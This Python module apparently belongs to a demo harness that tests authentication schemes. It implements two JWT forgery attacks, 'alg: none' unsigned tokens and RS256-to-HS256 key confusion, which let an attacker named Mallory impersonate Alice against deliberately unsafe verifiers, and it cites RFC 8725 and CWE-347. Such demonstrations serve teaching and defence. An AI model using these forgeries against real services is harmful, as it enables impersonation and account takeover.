"""Forgery: Mallory has no key, and writes herself Alice's token."""

import base64
import hmac
import json
from typing import Any

from demo.attacks.base import Attack, Attacker
from demo.contenders import contender
from demo.harness import Client, NotApplicable
from demo.keys import Key
from demo.schemes import JWT
from demo.unsafe.trusting import MIXES_KEYS, TAKES_NONE

Claims = dict[str, Any]


def part(value: dict[str, Any]) -> str:
    """One part of a token: base64url of JSON, unpadded.
    Source: RFC 7515 section 2."""
    return text(json.dumps(value).encode())


def text(raw: bytes) -> str:
    """Base64url, unpadded."""
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def alices_claims(attacker: Attacker) -> dict[str, Any]:
    """Mallory's own claims, read without a key, and renamed."""
    scheme = attacker.service.app.scheme
    if not isinstance(scheme, JWT):
        raise NotApplicable("the credential is not a JWT")
    payload = attacker.me.credential().split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(payload + "=="))
    return {**claims, "sub": "alice"}


def with_token(attacker: Attacker, token: str) -> Client:
    """Mallory's machine, holding this token instead of her own."""
    thief = attacker.me.stolen_copy()
    thief.replace_credential(token)
    return thief


def header(**more: Any) -> dict[str, Any]:
    """What the bank's tokens say in front, and more."""
    return {"typ": "at+jwt", **more}


def sealed(secret: bytes, claims: Claims, header: dict[str, Any]) -> str:
    """A token whose HMAC is made with this secret."""
    signed = f"{part({'alg': 'HS256', **header})}.{part(claims)}"
    return f"{signed}.{text(hmac.digest(secret, signed.encode(), 'sha256'))}"


def confused(key: Key, claims: Claims, header: dict[str, Any]) -> str:
    """A token whose HMAC secret is the text of a public key."""
    return sealed(key.pem(), claims, header)


def public_key(attacker: Attacker) -> Key:
    """What the service publishes.  Raises NotApplicable."""
    used = attacker.service.contender
    if not used.algorithm:
        raise NotApplicable("no public key to sign with")
    key = (used.key or attacker.service.key(used.algorithm)).public()
    if key is None:
        raise NotApplicable("no public key to sign with")
    return key


def forge_none(attacker: Attacker) -> Client:
    return forge_unsigned(attacker, "none")


def forge_unsigned(attacker: Attacker, algorithm: str) -> Client:
    claims = alices_claims(attacker)
    first = part(header(alg=algorithm))
    return with_token(attacker, f"{first}.{part(claims)}.")


def forge_confusion(attacker: Attacker) -> Client:
    claims = alices_claims(attacker)
    token = confused(public_key(attacker), claims, header())
    return with_token(attacker, token)


ALG_NONE = Attack(
    id="alg-none",
    name="alg: none",
    claim='A token that says "unsigned" enters without a signature.',
    family="signature",
    source="RFC 8725 section 2.1, CWE-347",
    forge=forge_none,
    fixed=contender("JWT RS256"),
    flip=TAKES_NONE,
)

KEY_CONFUSION = Attack(
    id="key-confusion",
    name="RS256 to HS256",
    claim="A token signed with the published key as a secret enters.",
    family="signature",
    source="RFC 8725 section 2.1, CWE-347",
    forge=forge_confusion,
    fixed=contender("JWT RS256"),
    flip=MIXES_KEYS,
)
